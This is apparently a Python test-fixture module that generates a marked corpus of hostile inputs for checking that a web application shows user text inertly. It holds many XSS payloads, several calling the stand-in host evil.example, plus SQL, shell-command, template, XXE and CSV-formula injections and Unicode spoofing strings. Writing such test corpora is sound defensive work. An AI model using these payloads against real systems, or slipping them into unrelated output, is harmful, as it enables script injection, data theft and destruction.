"""Give texts that a browser could take for markup, code, an address or another text; each bears a mark of its own.

A text that is shown as text is found on the page as it was written. One that is not makes a dialog, a request, an
element, an attribute, a name on `window`, or a report of the content policy; its mark then tells which one it was.
"""

from __future__ import annotations

from dataclasses import dataclass

PLACE = "\ue000"  # of the mark; a sign that stands in no text
ORIGIN = "evil.example"

_TAGS = """
<script>alert('@')</script>
<script src=//{o}/@></script>
<script type=module>import '//{o}/@'</script>
<ScRiPt>alert('@')</sCrIpT>
<script/x>alert('@')</script>
<<script>alert('@')//<</script>
<scr<script>ipt>alert('@')</scr</script>ipt>
</script><script>alert('@')</script>
</title><script>alert('@')</script>
</textarea><script>alert('@')</script>
</style><script>alert('@')</script>
</noscript><script>alert('@')</script>
<iframe src=//{o}/@></iframe>
<iframe srcdoc="<script>parent.alert('@')</script>">
<iframe src=javascript:alert('@')>
<object data=//{o}/@></object>
<object data="data:text/html,<script>alert('@')</script>">
<embed src=//{o}/@>
<frameset onload=alert('@')>
<base href=//{o}/@/>
<link rel=stylesheet href=//{o}/@>
<link rel=dns-prefetch href=//@.{o}>
<link rel=modulepreload href=//{o}/@>
<meta http-equiv=refresh content="0;url=//{o}/@">
<meta http-equiv=Content-Security-Policy content="@">
<form action=//{o}/@><input type=submit autofocus>
<form id=@ onformdata=alert('@')><button>
<input autofocus onfocus=alert('@')>
<input type=image src=//{o}/@>
<button formaction=javascript:alert('@')>@</button>
<select autofocus onfocus=alert('@')>
<textarea autofocus onfocus=alert('@')>
<marquee onstart=alert('@')>@
<table background=//{o}/@>
<body background=//{o}/@ onload=alert('@')>
<style>@import '//{o}/@';</style>
<style>*{{background:url(//{o}/@)}}</style>
<portal src=//{o}/@ onload=alert('@')>
<template shadowrootmode=open><script>alert('@')</script></template>
<dialog open onclose=alert('@')><form method=dialog>@
<plaintext>@
<xmp><img src=x onerror=alert('@')></xmp>
<noembed><img src=x onerror=alert('@')></noembed>
<!--><img src=x onerror=alert('@')>-->
<!-- --!><img src=x onerror=alert('@')>
<![CDATA[<img src=x onerror=alert('@')>]]>
<?xml version="1.0"?><x onload=alert('@')>
<custom-@ is=@></custom-@>
"""
_ELEMENTS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "a href=#", "details open", "div tabindex=1")
_HANDLERS = ("onerror", "onload", "onclick", "ontoggle", "onfocusin", "onanimationend", "onpointerover", "onwheel")
_SVG_AND_MATHML = """
<svg><script>alert('@')</script></svg>
<svg><script href=//{o}/@ /></svg>
<svg><script xlink:href=data:,alert('@') /></svg>
<svg><a xlink:href=javascript:alert('@')><text y=9>@</text></a>
<svg><animate attributeName=href values=javascript:alert('@') /></svg>
<svg><set attributeName=onmouseover to=alert('@') />
<svg><use href="data:image/svg+xml,<svg id=x onload=alert('@')/>#x" />
<svg><image href=//{o}/@ /></svg>
<svg><foreignObject><iframe src=javascript:alert('@') />
<svg><style>*{{fill:url(//{o}/@#a)}}</style>
<svg><desc><img src=x onerror=alert('@')></desc>
<svg><title><img src=x onerror=alert('@')></title>
<svg><feImage href=//{o}/@ />
<svg onload=alert('@')//
<math href=javascript:alert('@')>@</math>
<math><mtext><img src=x onerror=alert('@')></mtext>
<math><maction actiontype=statusline xlink:href=javascript:alert('@')>@
<math><annotation-xml encoding="text/html"><img src=x onerror=alert('@')>
"""
# Markup that another parser writes anew: harmless once, and not the second time.
_MUTATING = """
<noscript><p title="</noscript><img src=x onerror=alert('@')>">
<svg></p><style><a id="</style><img src=x onerror=alert('@')>">
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert('@')>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('@')>
<svg><p><style><g title="</style><img src=x onerror=alert('@')>">
<listing>&lt;img src=x onerror=alert('@')&gt;</listing>
<p id="&lt;img src=x onerror=alert('@')&gt;">
<img alt="`><img src=x onerror=alert('@')>">
<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert('@')>">
<table><td><noscript><img title="</noscript><img src onerror=alert('@')>"></table>
"""
_BREAKING_OUT = """
"><img src=x onerror=alert('@')>
'><img src=x onerror=alert('@')>
`><img src=x onerror=alert('@')>
--><img src=x onerror=alert('@')>
]]><img src=x onerror=alert('@')>
" onmouseover="alert('@')
' onmouseover='alert("@")
" autofocus onfocus=alert('@') x="
" style="background:url(//{o}/@)
' style='animation:x 1s' onanimationstart='alert("@")
" srcset="//{o}/@ 1x
" formaction="javascript:alert('@')
" popovertarget="@
x=@ onclick=alert('@')
/onmouseover=alert('@')/@
";alert('@');//
';alert('@');//
\\";alert('@');//
\\');alert('@');//
`;alert('@');//
${{alert('@')}}
*/alert('@');/*
</script><!--@
//-->alert('@')
\\x3cimg src=x onerror=alert('@')\\x3e
\\u003cimg src=x onerror=alert('@')\\u003e
&lt;img src=x onerror=alert('@')&gt;
&#60;img src=x onerror=alert('@')&#62;
&#x3c;img src=x onerror=alert('@')&#x3e;
&amp;lt;script&amp;gt;alert('@')
%3Cimg%20src%3Dx%20onerror%3Dalert('@')%3E
%253Cscript%253Ealert('@')
+ADw-script+AD4-alert('@')+ADw-/script+AD4-
＜script＞alert('@')＜/script＞
‹script›alert('@')‹/script›
"""
_ADDRESSES = """
javascript:alert('@')
JaVaScRiPt:alert('@')
 javascript:alert('@')
java\tscript:alert('@')
javascript&colon;alert('@')
javascript://%0aalert('@')
javascript:void(fetch('//{o}/@'))
vbscript:msgbox("@")
data:text/html,<script>alert('@')</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgpPC9zY3JpcHQ+@
data:image/svg+xml,<svg onload=alert('@')>
blob:https://{o}/@
filesystem:https://{o}/@
//{o}/@
\\\\{o}\\@
https://{o}/@
https://{o}\\@@{o}/@
http://user:@@{o}/
file:///etc/@
mailto:@@{o}
tel:+1;@
intent://{o}/#Intent;scheme=@;end
#/settings?@
#/enrol/@
../../@
%2e%2e%2f@
/goodbye?@
?q=@&lang=<script>
https://www.ｅvil.example/@
https://pratiqսe.example/@
[@](javascript:alert('@'))
![@](//{o}/@)
"""
_TEMPLATES = """
{{{{constructor.constructor("alert('@')")()}}}}
{{{{7*7}}}}@
{{@html '<img src=x onerror=alert("@")>'}}
{{#if alert('@')}}@{{/if}}
{{#each window as @}}{{/each}}
{{@render alert('@')}}
{{@debug @}}
${{7*7}}@
#{{7*7}}@
<%= 7*7 %>@
@{{@}}
{{%raw%}}@{{%endraw%}}
{{name, select, other {{@}}}}
{{count, plural, one {{@}} other {{#}}}}
{{@}}
'{{@}}'
{{0}} {{1}} @
%s %d %n @
%(@)s
$&$1$`@
$$@$'
"""
_DATA = """
{{"__proto__":{{"@":1}}}}
__proto__ @
constructor @
prototype.@
toString @
hasOwnProperty @
null @
undefined @
NaN @
[object Object] @
1e400 @
9007199254740993 @
"}}],"@":[{{"
\\"@\\"
\\u0000@
\\ud800@
\\n\\r\\t@
',"@":'
=cmd|' /C calc'!A@
+@
-@
@SUM(1+1)*@
'; DROP TABLE entries; --@
1 OR 1=1 --@
$(touch /tmp/@)
../../../../etc/passwd@
C:\\Windows\\@
\\\\?\\C:\\@
.@
@.jpg.exe
@.svg
@.html
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY @ SYSTEM "file:///etc/passwd">]>
Content-Security-Policy: script-src *; @
Set-Cookie: @=1
id=@ name=@
<a id=@><a id=@ name=@>
<img name=@>
<form name=@><input name=@>
<a id=document name=@>
<img name=cookie id=@>
<form id=@ name=attributes><input name=attributes>
"""
_WRITING = """
\u202egpj.exe@
@\u202dabc\u202c
\u2066@\u2069\u2067abc
\u200f@\u200e
\u061c@
@\u200b@
\u200d\u200c@\u2060
\ufeff@
@\u00ad@
B\u0435lgium @
\u0420\u0410\u0423\u0420\u0410L @
\uff42\uff45\uff0f\uff4e\uff43\uff50 @
\u04cfogin @
\u0131\u0130 @
\ufb01le @
\u1e9e\u00df @
a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a@
Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f@
\u0627\u0644\u0645\u0646\u0634\u0623 @ \u0628\u0644\u062c\u064a\u0643\u0627
\u05e9\u05dc\u05d5\u05dd@
\U0001f1e7\U0001f1ea@
\U0001f468\u200d\U0001f469\u200d\U0001f467@
\U000e0041\U000e0042@
\ufdfd@
\u2028@\u2029
\u0085@
\ufff9@\ufffb
\ufffd@
"""


@dataclass(frozen=True)
class Hostile:
    """One text and its mark."""

    mark: str
    text: str


def _lines() -> list[str]:
    blocks = (_TAGS, _SVG_AND_MATHML, _MUTATING, _BREAKING_OUT, _ADDRESSES, _TEMPLATES, _DATA, _WRITING)
    written = [line for block in blocks for line in block.strip("\n").split("\n")]
    handled = [f"<{element} {handler}=alert('@')>" for element in _ELEMENTS for handler in _HANDLERS]
    long = ["W" * 6_000 + "@", "\u0645" * 3_000 + "@", "<b>" * 1_000 + "@", "\n" * 400 + "@", "&" * 2_000 + "@"]
    return [*written, *handled, *long, "java\nscript:alert('@')", "\r\nX-Header: @"]


def corpus() -> list[Hostile]:
    """Give every text, always in the same order."""
    made = []
    for number, line in enumerate(_lines()):
        mark = f"xs{number:03}q"
        text = line.replace("@", PLACE).replace("{{", "{").replace("}}", "}").replace("{o}", ORIGIN)
        made.append(Hostile(mark, text.replace(PLACE, mark)))
    return made


def short(most: int) -> list[Hostile]:
    """Give those that fit into a field of so many characters."""
    return [one for one in corpus() if len(one.text) <= most]
